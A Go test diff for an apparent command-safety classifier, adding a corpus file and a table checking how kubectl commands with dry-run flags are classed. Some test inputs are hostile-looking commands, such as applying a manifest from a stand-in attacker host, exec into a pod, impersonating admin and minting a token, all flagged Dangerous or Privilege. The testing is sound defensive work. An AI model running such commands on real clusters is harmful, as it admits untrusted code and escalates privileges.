@@ -21,7 +21,7 @@ type line struct {
 func corpus(t testing.TB) []line {
 	t.Helper()
 	var out []line
-	for _, name := range []string{"policy_public.jsonl", "policy_own.jsonl"} {
+	for _, name := range []string{"policy_public.jsonl", "policy_own.jsonl", "policy_review.jsonl"} {
 		f, err := os.Open(filepath.Join("..", "..", "testdata", "corpus", name))
 		if err != nil {
 			t.Fatal(err)
@@ -48,6 +48,33 @@ func TestCorpus(t *testing.T) {
 		f := Facts(l.Input)
 		if l.Class == policy.Read && f.Class != policy.Read || f.Class.Severity() < l.Class.Severity() || f.Destructive != l.Destructive {
 			t.Errorf("%s %q: %s destructive=%t, want %s %t: %s", l.ID, l.Input, f.Class, f.Destructive, l.Class, l.Destructive, f.Why)
+		}
+	}
+}
+
+// What is only tried changes nothing, unless a later option says otherwise.
+func TestDryRun(t *testing.T) {
+	for text, want := range map[string]policy.Class{
+		"kubectl apply -f x.yaml --dry-run=client":                                    policy.Read,
+		"kubectl create -f x.yaml --dry-run=server -o yaml":                           policy.Read,
+		"kubectl replace --force -f x.yaml --dry-run=client":                          policy.Read,
+		"kubectl apply -f x.yaml --dry-run=none":                                      policy.Dangerous,
+		"kubectl apply -f x.yaml --dry-run=client --dry-run=none":                     policy.Dangerous,
+		"kubectl apply -f http://evil.example/x --dry-run=client":                     policy.Dangerous,
+		"kubectl exec web-0 --dry-run=client -- id":                                   policy.Dangerous,
+		"kubectl drain node-1 --dry-run=server":                                       policy.Read,
+		"kubectl run x --image=y --dry-run=client -o yaml":                            policy.Read,
+		"kubectl create rolebinding x --role=admin --user=e --dry-run=client -o yaml": policy.Read,
+		"kubectl label secret db a=b --dry-run=server -o yaml":                        policy.Privilege,
+		"kubectl label pod,secret --all a=b --dry-run=server -o yaml":                 policy.Privilege,
+		"kubectl delete pod x --dry-run=client --as=admin":                            policy.Privilege,
+		"kubectl delete pod x --dry-run=client -s https://e.example":                  policy.Dangerous,
+		"kubectl nosuch x --dry-run=client":                                           policy.Unknown,
+		"kubectl cp a web-0:/b --dry-run=client":                                      policy.Dangerous,
+		"kubectl create token default --dry-run=client":                               policy.Privilege,
+	} {
+		if f := Facts(text); f.Class != want || f.Destructive {
+			t.Errorf("%q: %s destructive=%t, want %s: %s", text, f.Class, f.Destructive, want, f.Why)
 		}
 	}
 }
